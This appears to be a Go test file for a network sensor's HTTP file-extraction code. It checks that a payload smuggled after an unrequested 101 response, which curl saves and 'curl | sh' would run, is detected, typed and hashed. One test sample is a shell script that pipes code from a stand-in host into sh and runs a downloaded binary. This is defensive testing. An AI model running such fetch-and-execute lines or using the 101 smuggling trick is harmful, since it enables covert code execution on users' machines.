package files

import (
	"net/netip"
	"testing"
	"time"

	"github.com/edgesensor/edgesensor/internal/testutil"
	"github.com/edgesensor/edgesensor/userspace/files/transfer"
)

// A server answers a plain GET with a 101 nothing asked for, then a 204
// (what a browser takes as the answer), then the payload. curl takes the
// 101 as final and saves every byte after it, heads and payload ("curl |
// sh" runs the script past the lines it cannot): the sensor reports that
// file, hashed whole as curl has it, typed by the payload after the heads.
func TestSneaky101Payload(t *testing.T) {
	pe := goPE(t)
	for _, c := range []struct {
		payload        []byte
		category, kind string
	}{
		{pe, "executable", "pe"},
		{[]byte("#!/bin/sh\ncurl -s http://evil.test/x | sh\nchmod +x /tmp/x; /tmp/x\n"), "script", "shell"},
	} {
		heads := "HTTP/1.1 204 No Content\r\n\r\nHTTP/1.1 200 OK\nContent-Length: 0\n\n"
		after := append([]byte(heads), c.payload...)
		conn := testutil.TCPConn{
			Client:   netip.MustParseAddrPort("10.0.0.1:40000"),
			Server:   netip.MustParseAddrPort("10.0.0.2:80"),
			ToServer: []byte("GET /install HTTP/1.1\r\nHost: h.test\r\n\r\n"),
			ToClient: append([]byte("HTTP/1.1 101 Switching Protocols\r\n\r\n"), after...),
		}
		p, buf, _ := newPipeline(t, nil, nil)
		sh := p.NewShard(0)
		feed(sh, conn, segments(conn, 1448), time.Unix(1700000000, 0))
		sh.Close()
		evs := rangeEvents(t, buf.Bytes())
		if len(evs) != 1 {
			t.Fatalf("%s: %d events: %s", c.kind, len(evs), buf.Bytes())
		}
		e := evs[0]
		f := e.Edgesensor.File
		if f.Category != c.category || f.Kind != c.kind || !f.Complete || e.File.Hash == nil || e.File.Hash.SHA256 != sha(after) ||
			e.File.Size != int64(len(after)) || e.HTTP.Response.StatusCode != 101 {
			t.Errorf("%s: %+v hash %+v size %d status %d", c.kind, f, e.File.Hash, e.File.Size, e.HTTP.Response.StatusCode)
		}
	}
	// A 101's body that opens with no heads is typed as it is.
	if k := afterHeads([]byte("MZ\x90\x00HTTP/1.1 200 OK\r\n\r\n"), transferMeta101()); k != 0 {
		t.Errorf("afterHeads of a bare body: %d", k)
	}
	if k := afterHeads([]byte("\r\n\r\nHTTP/1.1 204 X\r\n\r\nMZ"), transferMeta101()); k != 22 {
		t.Errorf("afterHeads after line ends: %d", k)
	}
	// A head not whole within the bytes typed: nothing skipped past it.
	if k := afterHeads([]byte("HTTP/1.1 204 X\r\n\r\nHTTP/1.1 200 OK\r\nX: y"), transferMeta101()); k != 18 {
		t.Errorf("afterHeads with a cut head: %d", k)
	}
}

func transferMeta101() transfer.Meta { return transfer.Meta{Protocol: transfer.HTTP, Status: 101} }
